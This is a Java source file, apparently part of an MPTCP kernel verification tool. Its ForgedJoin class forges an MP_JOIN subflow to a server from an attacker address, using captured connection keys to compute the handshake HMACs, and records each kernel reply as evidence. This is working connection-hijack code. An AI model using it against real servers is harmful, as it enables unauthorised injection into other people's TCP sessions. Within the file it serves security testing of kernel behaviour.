package org.mptcpverify.kernel;

import java.io.IOException;
import java.util.List;
import java.util.Optional;
import org.mptcpverify.crypto.MptcpCrypto;
import org.mptcpverify.wire.Bytes;
import org.mptcpverify.wire.MptcpOption;
import org.mptcpverify.wire.TcpSegment;

/**
 * The attacker's join to the server, from its own address, built from the captured keys: SYN +
 * MP_JOIN (token of the server key), check of the server's HMAC-B, third ACK with HMAC-A, and the
 * wait for the server's ACK. Notes each step in the evidence.
 */
final class ForgedJoin {
    /** An established attacker subflow to the server. */
    record Joined(int port, long isn, long serverIsn) {
        long seq() {
            return (isn + 1) & 0xffffffffL;
        }

        long ack() {
            return (serverIsn + 1) & 0xffffffffL;
        }
    }

    private ForgedJoin() {}

    static Optional<Joined> toServer(AttackContext ctx, CapturedConnection c, int addressId) throws IOException {
        Wiretap tap = ctx.tap();
        var rnd = ctx.random();
        int port = 40_000 + rnd.nextInt(20_000);
        long isn = rnd.nextLong() & 0xffffffffL;
        int randomA = rnd.nextInt();
        int mark = tap.size();
        tap.send(Topology.SERVER_MAC, new TcpSegment(Topology.FORGED, c.server(), port, c.serverPort(), isn, 0,
                TcpSegment.SYN, Forge.WINDOW, List.of(Forge.mss(1460),
                        Forge.mptcp(new MptcpOption.MpJoinSyn(0, addressId, c.serverToken(), randomA))),
                Bytes.empty()));
        Optional<Wiretap.Seen> reply = tap.await(mark, t -> toAttacker(t, port), 2_000);
        if (reply.isEmpty()) {
            ctx.note("server kernel: no reply to SYN + MP_JOIN within 2 s");
            return Optional.empty();
        }
        TcpSegment synAck = reply.get().segment();
        Optional<MptcpOption.MpJoinSynAck> join = CapturedConnection.option(synAck, MptcpOption.MpJoinSynAck.class);
        if (!synAck.has(TcpSegment.SYN) || join.isEmpty()) {
            ctx.note("server kernel answered SYN + MP_JOIN with flags 0x" + Integer.toHexString(synAck.flags())
                    + " " + KernelReply.of(synAck).options());
            return Optional.empty();
        }
        long expected = MptcpCrypto.joinSynAckHmac(c.hash(), c.serverKey(), c.clientKey(),
                join.get().senderRandom(), randomA);
        ctx.note("server kernel: SYN/ACK + MP_JOIN, truncated HMAC-B "
                + (MptcpCrypto.constantTimeEquals(expected, join.get().truncatedHmac())
                ? "equals the one computed from the captured keys" : "DIFFERS from the one computed from the captured keys"));
        Joined j = new Joined(port, isn, synAck.seq());
        Bytes hmacA = MptcpCrypto.joinAckHmac(c.hash(), c.clientKey(), c.serverKey(), randomA, join.get().senderRandom());
        mark = tap.size();
        tap.send(Topology.SERVER_MAC, new TcpSegment(Topology.FORGED, c.server(), port, c.serverPort(), j.seq(), j.ack(),
                TcpSegment.ACK, Forge.WINDOW, List.of(Forge.mptcp(new MptcpOption.MpJoinAck(hmacA))), Bytes.empty()));
        // RFC 8684 3.2: the joining host waits for the listener's ACK of the third ACK.
        Optional<Wiretap.Seen> fourth = tap.await(mark, t -> toAttacker(t, port), 1_000);
        if (fourth.isPresent() && fourth.get().segment().has(TcpSegment.RST)) {
            ctx.note("server kernel reset the subflow after the third ACK: " + KernelReply.of(fourth.get().segment()).options());
            return Optional.empty();
        }
        ctx.note("server kernel: " + (fourth.isPresent() ? "ACKed the third ACK (subflow established)"
                : "no ACK of the third ACK within 1 s"));
        return Optional.of(j);
    }

    static boolean toAttacker(TcpSegment t, int port) {
        return t.dst().equals(Topology.FORGED) && t.dstPort() == port;
    }
}
